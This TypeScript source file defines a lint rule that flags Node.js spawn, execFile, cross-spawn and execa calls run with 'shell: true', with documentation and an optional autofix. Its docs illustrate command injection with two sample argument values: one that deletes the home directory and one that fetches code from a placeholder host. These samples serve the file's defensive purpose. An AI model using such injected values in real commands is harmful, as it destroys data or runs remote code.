import {
  booleanValue,
  cachedCallName,
  callArguments,
  codeStyle,
  hasSpreadArgument,
  insertArgument,
  mentions,
  objectLiteral,
  property,
  quoteString,
  removeProperty,
  replaceNode,
  stringValue,
  unwrap,
} from '../../javascript/syntax';
import type { Node } from '../../parser';
import { defineRule } from '../../rule';
import type { TextEdit } from '../../types';
import { PLAIN_WORDS } from './B605-start-process-with-a-shell';
import { twinMeta } from '../python/index';

/** Calls that take (command, args?, options?) and run without a shell unless `shell` is set. */
const SPAWN_CALLS = new Set([
  'child_process.spawn', 'child_process.spawnSync', 'child_process.execFile', 'child_process.execFileSync',
  'cross-spawn', 'cross-spawn.spawn', 'cross-spawn.sync',
  'execa', 'execa.execa', 'execa.sync', 'execa.execaSync', 'execa.execaCommand', 'execa.execaCommandSync',
]);

interface State {
  call: Node;
  options: Node;
  /** Set when the command and its arguments are fixed plain words: the fix may drop the shell. */
  words?: string[];
}

/** Words one of which a file must contain for this rule to find anything. */
const TRIGGERS = ['shell'];

export const jsSubprocessPopenWithShellEqualsTrue = defineRule<State>({
  meta: twinMeta('B602'),
  family: 'javascript',
  nodeTypes: ['call_expression'],
  triggers: TRIGGERS,
  check(call, ctx) {
    if (!mentions(ctx, TRIGGERS)) return undefined;
    const callee = cachedCallName(call, ctx.facts);
    if (!callee?.imported || !SPAWN_CALLS.has(callee.name) || hasSpreadArgument(call)) return undefined;
    const args = callArguments(call);
    const options = [args[1], args[2]].map(objectLiteral).find((object) => object !== undefined);
    const shell = options && property(options, 'shell');
    const value = shell?.type === 'pair' ? shell.childForFieldName('value') : shell;
    if (!options || !shell || !value) return undefined;
    const literal = booleanValue(value) ?? (stringValue(value) !== undefined ? stringValue(value) !== '' : undefined);
    if (literal === false || ['undefined', 'null'].includes(unwrap(value).type) || unwrap(value).text === 'undefined') return undefined;
    const array = args[1] && unwrap(args[1]).type === 'array' ? unwrap(args[1]) : undefined;
    const listed = array ? array.namedChildren.filter((child): child is Node => !!child && child.type !== 'comment') : [];
    const fixed = stringValue(args[0]) !== undefined && (args[1] === undefined || objectLiteral(args[1]) !== undefined || (!!array && listed.every((item) => stringValue(item) !== undefined)));
    const maybe = literal === undefined ? ' (when it is true)' : '';
    if (!fixed) {
      return {
        node: shell,
        message: `${callee.name} with a shell${maybe} runs a computed command line: a value in the command or its arguments can end it and start other commands. Drop the shell option and pass the arguments as an array.`,
        confidence: literal === undefined ? 'medium' : undefined,
        state: { call, options },
      };
    }
    const words = [stringValue(args[0])!, ...listed.map((item) => stringValue(item)!)];
    const plain = literal && words.every((word) => PLAIN_WORDS.test(word)) && words.slice(1).every((word) => word !== '' && !/\s/.test(word)) && words[0]!.trim() !== '';
    return {
      node: shell,
      message: `${callee.name} with a shell${maybe} and a fixed command seems safe, but may be changed in the future: consider running it without a shell.`,
      severity: 'low',
      confidence: literal === undefined ? 'medium' : undefined,
      state: { call, options, words: plain ? words : undefined },
    };
  },
  fix(report, ctx) {
    const { call, options, words } = report.state!;
    if (!words) return [];
    const args = callArguments(call);
    const [file, ...extra] = words[0]!.trim().split(/[ \t]+/);
    const quote = codeStyle(ctx.root, ctx.text, ctx.options.path).quote;
    const edits: TextEdit[] = [removeProperty(options, report.node, ctx.text)];
    if (extra.length > 0) {
      edits.push(replaceNode(args[0]!, quoteString(file!, quote)));
      const quoted = extra.map((word) => quoteString(word, quote)).join(', ');
      const array = unwrap(args[1]!);
      if (array.type === 'array') {
        const first = array.namedChildren.find((child) => child && child.type !== 'comment');
        edits.push(first ? { start: first.startIndex, end: first.startIndex, newText: `${quoted}, ` } : { start: array.firstChild!.endIndex, end: array.lastChild!.startIndex, newText: quoted });
      } else {
        edits.push(insertArgument(call, 1, `[${quoted}]`, ctx.text));
      }
    }
    return [
      {
        title: extra.length > 0 ? `Run without a shell: ${quoteString(file!, quote)}, [${extra.map((word) => quoteString(word, quote)).join(', ')}, …]` : 'Run without a shell (remove shell: true)',
        applicability: 'unsafe',
        edits,
        caveat: 'Without a shell, shell built-ins (cd, set, type) no longer work, and on Windows .cmd and .bat programs (npm, npx, yarn) cannot be started.',
      },
    ];
  },
  docs: `
## What it does
Reports \`child_process\` \`spawn\`, \`spawnSync\`, \`execFile\` and \`execFileSync\`, \`cross-spawn\`
and \`execa\` calls whose options ask for a shell: \`shell: true\`, a shell path
(\`shell: '/bin/bash'\`), or an expression that may be true (\`shell: isWindows\`, at medium
confidence). A command or argument that is not a fixed string is high severity; a fixed
command line is low, as in Bandit.

## Why is this bad?
With a shell, the program and its arguments are joined into one command line that the shell
parses: an argument such as \`x; rm -rf ~\` or \`$(curl evil.sh)\` runs commands of its own
(CWE-78). On Windows, \`cmd.exe\` parsing makes even careful quoting unreliable.

## Example
\`\`\`ts
import { spawn } from 'node:child_process';
spawn('convert', [input, output], { shell: true });
\`\`\`

## Use instead
\`\`\`ts
import { spawn } from 'node:child_process';
spawn('convert', [input, output]);
\`\`\`

## Beyond Bandit
Bandit's B602 covers Python's \`subprocess\` with \`shell=True\`; this is its TS/JS twin, so
\`// nosec B602\` means the same in both languages. Names resolve through \`import\`,
\`require\`, destructuring and aliases. Options built elsewhere (\`spawn(cmd, args, opts)\`) are
not followed; \`child_process.exec\` always uses a shell and is B605.

## Fix safety
For a fixed command of plain words (letters, digits, \`_-./:=@+,\`) whose array arguments are
fixed single words, the fix removes the \`shell\` option and, when the command string holds
several words (\`spawn('git status', { shell: true })\`), moves all but the first into the
argument array. It is unsafe: shell built-ins (\`cd\`, \`set\`, \`type\`) stop working, and on
Windows \`.cmd\`/\`.bat\` programs such as \`npm\` cannot be started without a shell. No fix
for computed commands: their arguments need a person to split.

## References
- [Node.js: child_process.spawn() options.shell](https://nodejs.org/api/child_process.html#child_processspawncommand-args-options)
- [Node.js: shell requirements and default Windows shell](https://nodejs.org/api/child_process.html#shell-requirements)
- [CWE-78: OS Command Injection](https://cwe.mitre.org/data/definitions/78.html)
`,
});
